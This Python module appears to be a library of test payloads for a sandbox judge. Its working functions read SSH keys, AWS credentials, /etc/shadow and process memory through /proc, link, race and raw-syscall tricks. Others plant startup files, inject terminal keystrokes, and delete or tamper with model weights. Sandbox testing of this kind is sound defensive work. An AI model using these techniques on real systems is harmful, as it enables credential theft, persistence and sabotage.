"""Payloads that read what is not theirs, and write, move and delete it. Bait and targets are the judge's own."""

# Payloads and their judges mean system calls, not paths.
# ruff: noqa: PTH101, PTH104, PTH108, PTH109, PTH116, PTH208

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import itertools
import os
import stat
import struct
import sysconfig
import threading
import time
from pathlib import Path
from typing import Any

import attack_native as native

RACE_SECONDS = 0.8


def read_key(engine: Any, world: dict[str, Any]) -> bytes:
    """The harness's ssh key by its path, else by ~."""
    return _first(world["ssh"], Path("~/.ssh/id_rsa").expanduser())


def read_credentials(engine: Any, world: dict[str, Any]) -> bytes:
    return _first(world["aws"], Path("~/.aws/credentials").expanduser())


def read_shadow(engine: Any, world: dict[str, Any]) -> bytes:
    return Path("/etc/shadow").read_bytes()[:3000]


def read_through_init(engine: Any, world: dict[str, Any]) -> bytes:
    """The first process's root is the real one, where nobody hides it."""
    return _first(f"/proc/1/root{world['ssh']}", f"/proc/{world['harness']}/root{world['ssh']}")


def read_through_self(engine: Any, world: dict[str, Any]) -> bytes:
    """Around rules on path prefixes."""
    return _first(f"/proc/self/root{world['ssh']}", f"/proc/self/cwd/../../../../../../../../..{world['ssh']}",
                  f"//proc/thread-self/root/./{world['ssh']}")  # fmt: skip


def read_through_symlink(engine: Any, world: dict[str, Any]) -> bytes:
    link = Path(os.getcwd(), "innocent.txt")
    link.symlink_to(world["ssh"])
    return link.read_bytes()


def read_through_hardlink(engine: Any, world: dict[str, Any]) -> bytes:
    link = Path(world["reach"], "innocent.txt")
    os.link(world["ssh"], link)
    return link.read_bytes()


def read_openat2(engine: Any, world: dict[str, Any]) -> bytes:
    """openat2(2), which filters on open and openat forget."""
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    number = native.call(437, -100, world["ssh"].encode(), ctypes.byref(how), 24)
    return os.read(number, 3000)


def read_by_handle(engine: Any, world: dict[str, Any]) -> bytes:
    """open_by_handle_at: a file by its number on the disk, from any directory of the same file system."""
    handle = bytes.fromhex(world["handle"])
    for start in ("/", os.getcwd(), str(engine.model), "/proc/self/exe"):
        with contextlib.suppress(OSError):
            mount = os.open(start, os.O_RDONLY)
            return os.read(native.call(304, mount, handle, os.O_RDONLY), 3000)
    return b""


def read_environ(engine: Any, world: dict[str, Any]) -> bytes:
    """The harness's environment as it was started."""
    return _first(f"/proc/{os.getppid()}/environ", f"/proc/{world['harness']}/environ")


def read_memory_file(engine: Any, world: dict[str, Any]) -> bytes:
    with Path(f"/proc/{world['harness']}/mem").open("rb", buffering=0) as file:
        file.seek(world["address"])
        return file.read(32)


def read_memory_call(engine: Any, world: dict[str, Any]) -> bytes:
    buffer = ctypes.create_string_buffer(32)
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 32)
    remote = (ctypes.c_uint64 * 2)(world["address"], 32)
    native.call(310, world["harness"], ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return buffer.raw[:32]


def steal_descriptor(engine: Any, world: dict[str, Any]) -> bytes:
    """pidfd_getfd: a copy of an open file of the harness."""
    handle = native.call(434, world["harness"], 0)
    return os.pread(native.call(438, handle, world["descriptor"], 0), 3000, 0)


def list_processes(engine: Any, world: dict[str, Any]) -> bytes:
    """Other people's command lines."""
    found = b""
    for entry in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            found = entry.read_bytes()
            if world["victim_word"].encode() in found:
                return found[:3000]
    return b""


def path_race(engine: Any, world: dict[str, Any]) -> bytes:
    """open of a path that another thread keeps swapping between an allowed file and the bait."""
    good = str(engine.model / "attack.json").encode()
    bad = world["ssh"].encode()
    size = max(len(good), len(bad)) + 1
    buffer = ctypes.create_string_buffer(good, size)
    is_over = threading.Event()

    def swap() -> None:
        for path in itertools.cycle((bad, good)):  # the interpreter changes threads at the end of a turn
            ctypes.memmove(buffer, path.ljust(size, b"\0"), size)
            if is_over.is_set():
                return

    thread = threading.Thread(target=swap, daemon=True)
    thread.start()
    try:
        end = time.monotonic() + RACE_SECONDS
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                number = native.call(257, -100, buffer, 0, 0)
                content = os.read(number, 3000)
                os.close(number)
                if not content.startswith(b"{"):
                    return content
    finally:
        is_over.set()
        thread.join()
    return b""


def write_outside(engine: Any, world: dict[str, Any]) -> None:
    Path(world["target"]).write_text(world["token"])


def write_profile(engine: Any, world: dict[str, Any]) -> None:
    """A line that the next shell would run. Inert: a comment."""
    with Path(world["home"], ".bashrc").open("a") as file:
        file.write(f"# {world['token']}\n")


def write_through_symlink(engine: Any, world: dict[str, Any]) -> None:
    link = Path(os.getcwd(), "cache")
    link.symlink_to(world["reach"])
    Path(link, Path(world["target"]).name).write_text(world["token"])


def write_through_self(engine: Any, world: dict[str, Any]) -> None:
    Path(f"/proc/self/root{world['target']}").write_text(world["token"])


def write_raw_openat(engine: Any, world: dict[str, Any]) -> None:
    number = native.call(257, -100, world["target"].encode(), os.O_CREAT | os.O_WRONLY, 0o600)
    os.write(number, world["token"].encode())


def write_creat(engine: Any, world: dict[str, Any]) -> None:
    """creat(2), the call that nobody makes any more."""
    os.write(native.call(85, world["target"].encode(), 0o600), world["token"].encode())


def temporary_then_link(engine: Any, world: dict[str, Any]) -> None:
    """A nameless file, given a name at the end."""
    number = os.open(world["reach"], os.O_TMPFILE | os.O_WRONLY, 0o600)
    os.write(number, world["token"].encode())
    native.call(265, -100, f"/proc/self/fd/{number}".encode(), -100, world["target"].encode(), 0x400)


def make_fifo(engine: Any, world: dict[str, Any]) -> None:
    os.mkfifo(world["target"])


def make_device(engine: Any, world: dict[str, Any]) -> None:
    """A node for the first disk: readable by number what no path allows. Made, never opened."""
    os.mknod(world["target"], 0o600 | stat.S_IFCHR, os.makedev(1, 3))


def make_directory(engine: Any, world: dict[str, Any]) -> None:
    Path(world["target"]).mkdir()


def make_socket(engine: Any, world: dict[str, Any]) -> None:
    """A file by way of bind(2)."""
    import socket

    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(world["target"])


def delete_bait(engine: Any, world: dict[str, Any]) -> None:
    os.unlink(world["ssh"])


def delete_model(engine: Any, world: dict[str, Any]) -> None:
    """The weights that somebody else will look at later."""
    os.unlink(engine.model / "weights.bin")


def overwrite_model(engine: Any, world: dict[str, Any]) -> None:
    with contextlib.suppress(OSError):
        os.chmod(engine.model / "weights.bin", 0o666)
    (engine.model / "weights.bin").write_bytes(b"exchanged after it was looked at")


def rename_model(engine: Any, world: dict[str, Any]) -> None:
    os.rename(engine.model / "weights.bin", engine.model / "weights.old")


def truncate_bait(engine: Any, world: dict[str, Any]) -> None:
    os.truncate(world["ssh"], 0)


def open_up_bait(engine: Any, world: dict[str, Any]) -> None:
    os.chmod(world["ssh"], 0o777)


def stamp_bait(engine: Any, world: dict[str, Any]) -> None:
    """Its date, to hide what was done."""
    os.utime(world["ssh"], (1, 1))


def label_bait(engine: Any, world: dict[str, Any]) -> None:
    os.setxattr(world["ssh"], "user.soundcheck", world["token"].encode())


def start_with_python(engine: Any, world: dict[str, Any]) -> None:
    """A .pth file, which every later Python of this environment reads. Inert: a comment."""
    path = Path(sysconfig.get_path("purelib"), world["pth"])
    path.write_text(f"# {world['token']}\n")


def patch_harness(engine: Any, world: dict[str, Any]) -> None:
    """The harness's own code on disk: a new file in the package, inert."""
    import harness

    Path(str(harness.__file__)).with_name(world["pth"]).write_text(f"# {world['token']}\n")


def shared_memory(engine: Any, world: dict[str, Any]) -> None:
    Path("/dev/shm", world["name"]).write_text(world["token"])


def system_v_memory(engine: Any, world: dict[str, Any]) -> None:
    """shmget: memory that outlives every process."""
    native.call(29, world["key"], 4096, 0o1666)


def message_queue(engine: Any, world: dict[str, Any]) -> None:
    """mq_open: a mailbox that outlives every process."""
    native.call(240, world["name"].encode(), os.O_CREAT | os.O_RDWR, 0o666, 0)


def deface_terminal(engine: Any, world: dict[str, Any]) -> None:
    """Type into the user's terminal: TIOCSTI, else plain escape sequences."""
    import fcntl
    import termios

    number = os.open(world["terminal"], os.O_RDWR | os.O_NOCTTY)
    with contextlib.suppress(OSError):
        for letter in world["token"]:
            fcntl.ioctl(number, termios.TIOCSTI, letter.encode())
    os.write(number, b"\x1b]0;" + world["token"].encode() + b"\x07")


def watch_bait(engine: Any, world: dict[str, Any]) -> bytes:
    """inotify on the user's files: who opens what, and when."""
    watcher = native.call(294, 0)
    native.call(254, watcher, world["home"].encode(), 0xFFF)
    return world["token"].encode()


def stat_bait(engine: Any, world: dict[str, Any]) -> bytes:
    """That a file is there, and how large, says much."""
    return str(os.stat(world["ssh"]).st_mtime_ns).encode()


def list_home(engine: Any, world: dict[str, Any]) -> bytes:
    return ",".join(sorted(os.listdir(world["home"]))).encode()


def _first(*paths: str | Path) -> bytes:
    for path in paths:
        with contextlib.suppress(OSError):
            if content := Path(path).read_bytes()[:3000]:
                return content
    return b""


def tie_weights(engine: Any, world: dict[str, Any]) -> bytes:
    """Lock what may only be read: a sign for others, and a program that waits for the lock stands still."""
    number, way = os.open(engine.model / "weights.bin", os.O_RDONLY), engine.plan["way"]
    if way == "flock":
        fcntl.flock(number, fcntl.LOCK_EX | fcntl.LOCK_NB)
    elif way == "lease":
        fcntl.fcntl(number, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    else:
        command = fcntl.F_SETLK if way == "record" else fcntl.F_OFD_SETLK
        fcntl.fcntl(number, command, struct.pack("hhqqi4x", fcntl.F_RDLCK, os.SEEK_SET, 0, 0, 0))
    return world["token"].encode()


def watch_model(engine: Any, world: dict[str, Any]) -> bytes:
    """dnotify: a signal whenever somebody reads in a folder."""
    fcntl.fcntl(os.open(engine.model, os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_ACCESS)
    return world["token"].encode()
